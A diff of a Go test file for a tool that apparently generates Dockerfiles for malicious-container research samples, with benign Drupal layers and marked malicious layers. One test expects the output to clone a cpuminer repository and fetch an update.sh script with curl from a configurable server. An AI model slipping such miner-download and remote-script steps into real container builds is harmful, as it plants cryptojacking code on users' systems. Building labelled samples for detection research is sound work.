@@ -108,7 +108,7 @@ func TestDockerfileOptions(t *testing.T) {
 		want    []string // substrings
 		wantErr bool
 	}{
-		{name: "base image", o: Options{ServerURL: testServerURL, BaseImage: "debian:bookworm-slim"}, want: []string{"FROM debian:bookworm-slim AS drupal\n"}},
+		{name: "web image", o: Options{ServerURL: testServerURL, WebImage: "drupal:8.3"}, want: []string{"FROM drupal:8.3\n"}},
 		{name: "server URL", o: Options{ServerURL: "http://127.0.0.1:1/x"}, want: []string{"git clone http://127.0.0.1:1/x/OhGodAPet/cpuminer-multi.git", "curl -fsSL http://127.0.0.1:1/x/files/update.sh"}},
 		{name: "no server URL", o: Options{}, wantErr: true},
 		{name: "not a URL", o: Options{ServerURL: "127.0.0.1:8931"}, wantErr: true},
@@ -161,10 +161,6 @@ func markerOf(t *testing.T, n *parser.Node) string {
 // checks the instruction sequence, the ground-truth markers and the layer
 // each marker lands on.
 func TestDockerfileStructure(t *testing.T) {
-	benign := []step{
-		{"from", ""}, {"run", ""}, {"run", ""}, {"copy", ""}, {"copy", ""}, {"workdir", ""}, {"copy", ""}, {"run", ""},
-		{"expose", ""}, {"stopsignal", ""}, {"entrypoint", ""}, {"cmd", ""}, {"from", ""},
-	}
 	for _, c := range Cases() {
 		t.Run(c.Bits(), func(t *testing.T) {
 			df, err := Dockerfile(c, Options{ServerURL: testServerURL})
@@ -178,11 +174,8 @@ func TestDockerfileStructure(t *testing.T) {
 			if len(res.Warnings) > 0 {
 				t.Errorf("parser warnings: %+v", res.Warnings)
 			}
-			want := append([]step(nil), benign...)
-			var wantLayers []string // marker per layer-producing step; "" = benign
-			for range 7 {
-				wantLayers = append(wantLayers, "")
-			}
+			want := []step{{"from", ""}}
+			var wantLayers []string // marker per layer-producing step above the web-app image
 			if c.L8 {
 				want = append(want, step{"run", "L8"})
 				wantLayers = append(wantLayers, "L8")
@@ -220,9 +213,9 @@ func TestDockerfileStructure(t *testing.T) {
 				t.Errorf("instructions/markers\n got %v\nwant %v", got, want)
 			}
 			if !reflect.DeepEqual(gotLayers, wantLayers) {
-				t.Errorf("markers by layer (1..n above the base)\n got %q\nwant %q", gotLayers, wantLayers)
+				t.Errorf("markers by layer (8..n above the web-app image)\n got %q\nwant %q", gotLayers, wantLayers)
 			}
-			if first := res.AST.Children[0].Original; first != "FROM "+DefaultBaseImage+" AS drupal" {
+			if first := res.AST.Children[0].Original; first != "FROM "+DefaultWebImage {
 				t.Errorf("first instruction = %q", first)
 			}
 
@@ -233,10 +226,48 @@ func TestDockerfileStructure(t *testing.T) {
 			if err != nil {
 				t.Fatalf("instructions.Parse: %v", err)
 			}
-			if len(stages) != 2 || stages[0].Name != "drupal" || stages[1].BaseName != "drupal" {
-				t.Errorf("stages = %d (%q, base of last %q), want drupal + the sample FROM drupal", len(stages), stages[0].Name, stages[len(stages)-1].BaseName)
+			if len(stages) != 1 || stages[0].BaseName != DefaultWebImage {
+				t.Errorf("stages = %d (base %q), want one stage FROM %s", len(stages), stages[0].BaseName, DefaultWebImage)
 			}
 		})
+	}
+}
+
+// TestWebDockerfileStructure checks the web-app image: 7 benign
+// layer-producing steps on the Debian base, its config, and no marker.
+func TestWebDockerfileStructure(t *testing.T) {
+	df, err := WebDockerfile(Options{ServerURL: testServerURL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	res, err := parser.Parse(bytes.NewReader(df))
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []step{
+		{"from", ""}, {"run", ""}, {"run", ""}, {"copy", ""}, {"copy", ""}, {"workdir", ""}, {"copy", ""}, {"run", ""},
+		{"expose", ""}, {"stopsignal", ""}, {"entrypoint", ""}, {"cmd", ""},
+	}
+	var got []step
+	layers := 0
+	for _, n := range res.AST.Children {
+		s := step{strings.ToLower(n.Value), markerOf(t, n)}
+		got = append(got, s)
+		if layerProducing[s.instr] {
+			layers++
+		}
+	}
+	if !reflect.DeepEqual(got, want) {
+		t.Errorf("instructions/markers\n got %v\nwant %v", got, want)
+	}
+	if layers != 7 {
+		t.Errorf("%d layer-producing steps, want the paper's 7 benign layers", layers)
+	}
+	if first := res.AST.Children[0].Original; first != "FROM "+DefaultBaseImage {
+		t.Errorf("first instruction = %q", first)
+	}
+	if _, _, err := instructions.Parse(res.AST, nil); err != nil {
+		t.Fatalf("instructions.Parse: %v", err)
 	}
 }
 
@@ -251,5 +282,25 @@ func TestNoSyntaxDirective(t *testing.T) {
 		if strings.Contains(strings.ToLower(line), "syntax=") {
 			t.Errorf("line %d names a frontend: %s", i+1, line)
 		}
+	}
+}
+
+func TestWebDockerfileGolden(t *testing.T) {
+	got, err := WebDockerfile(Options{ServerURL: testServerURL})
+	if err != nil {
+		t.Fatal(err)
+	}
+	golden := filepath.Join("testdata", "web.Dockerfile.golden")
+	if *update {
+		if err := os.WriteFile(golden, got, 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	want, err := os.ReadFile(golden)
+	if err != nil {
+		t.Fatalf("%v (run go test -update to create it)", err)
+	}
+	if !bytes.Equal(got, want) {
+		t.Errorf("web Dockerfile differs from %s (go test -update rewrites it):\n%s", golden, got)
 	}
 }
